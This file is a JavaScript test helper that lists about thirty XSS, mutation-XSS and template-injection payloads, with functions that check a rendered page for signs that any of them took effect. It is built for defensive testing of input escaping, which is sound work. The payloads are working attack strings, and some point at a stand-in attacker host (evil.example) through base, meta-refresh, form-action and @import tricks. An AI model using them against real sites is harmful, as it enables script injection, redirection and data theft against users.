// Words that are also programs. Each would leave a mark: an element or attribute called "pwned", a dialog, a request to
// another machine, a breach of the content security policy in the console, or 49 where a template was filled in.

export const PAYLOADS = [
  "<script class=pwned>alert('pw1')</script>",
  "<img class=pwned src=x onerror=alert('pw2')>",
  "<svg class=pwned onload=alert('pw3')>",
  "\"><script class=pwned>alert('pw4')</script>",
  "'><img class=pwned src=x onerror=alert('pw5')>",
  "\" autofocus onfocus=alert('pw6') pwned=\"",
  "' onmouseover='alert(7)' pwned='",
  "` onmouseover=`alert('pw8')` pwned",
  "</textarea><script class=pwned>alert('pw9')</script>",
  "</title><b class=pwned>pw10</b>",
  "</template><img class=pwned src=x onerror=alert(11)>",
  "--><b class=pwned>pw12</b><!--",
  "<a class=pwned href=\"javascript:alert('pw13')\">pw13</a>",
  "javascript:alert('pw14')",
  "<iframe class=pwned srcdoc=\"<script>alert(15)</script>\">",
  // Mutations: harmless when first parsed, not when what came of it is parsed again.
  "<math><mtext><mglyph><style><img class=pwned src=x>",
  "<noscript><p title=\"</noscript><img class=pwned src=x>\">",
  "<svg></p><style><a id=\"</style><img class=pwned src=x>\">",
  "<base class=pwned href=//evil.example/pw19>",
  "<meta class=pwned http-equiv=refresh content=0;//evil.example>",
  "<form class=pwned action=//evil.example><button>pw21",
  "<style class=pwned>@import '//evil.example/22'</style>",
  "pw23{{7*7}}{{{7*7}}}{{> layouts/page}}",
  "pw24${7*7}<%= 7*7 %>#{7*7}",
  "&lt;script class=pwned&gt;alert(25)&lt;/script&gt;",
  "\\u003cscript class=pwned\\u003ealert('pw26')",
  "＜script class=pwned＞alert('pw27')＜/script＞",
  "<ſcript class=pwned>alert('pw28')</ſcript>",
  "pw29 { $name } { mails-hello }",
  "<x-pw class=pwned contenteditable onfocus=alert(30)>",
];

/** Two in each: as much as a single line takes, and half as many forms to fill. */
export const PAIRS = PAYLOADS.flatMap((words, at) => (at % 2 ? [] : [`${words} ${PAYLOADS[at + 1]}`]));

/** All of them, for a field that takes many lines. */
export const ALL = PAYLOADS.join("\n");

/** The pair a number of places further on, around the corner: so that two fields of a form never hold the same. */
export const further = (at, by) => PAIRS[(at + by) % PAIRS.length];

/** Sentences about every mark that a payload left on the page as it stands; empty when there is none. */
export function marksOn(page) {
  return page.evaluate(() => {
    const wrong = [];
    const say = (element, what) => wrong.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
    for (const element of document.querySelectorAll("*")) {
      if (element.matches(".pwned, [pwned], x-pw, iframe, base, math, object, embed, meta[http-equiv=refresh]")) say(element, "made an element");
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on")) say(element, "made a handler");
        const leads = ["href", "src", "action", "formaction", "xlink:href"].includes(name);
        if (leads && /javascript:|alert\(|evil\.example/i.test(decodeURI(value))) say(element, "made a link");
      }
    }
    if (/pw23[^{]*49|pw24[^$]*49/.test(document.body.innerText)) wrong.push("a template was filled in");
    return wrong;
  });
}

/** What a person reads on the page: its text, what stands in its fields, and its title. */
export function wordsOn(page) {
  return page.evaluate(() => {
    const fields = [...document.querySelectorAll("input:not([type=hidden]), textarea")].map((field) => field.value);
    const texts = [...document.querySelectorAll("option")].map((option) => option.textContent);
    return [document.title, document.body.innerText, ...fields, ...texts].join("\n").replace(/\s+/g, " ");
  });
}
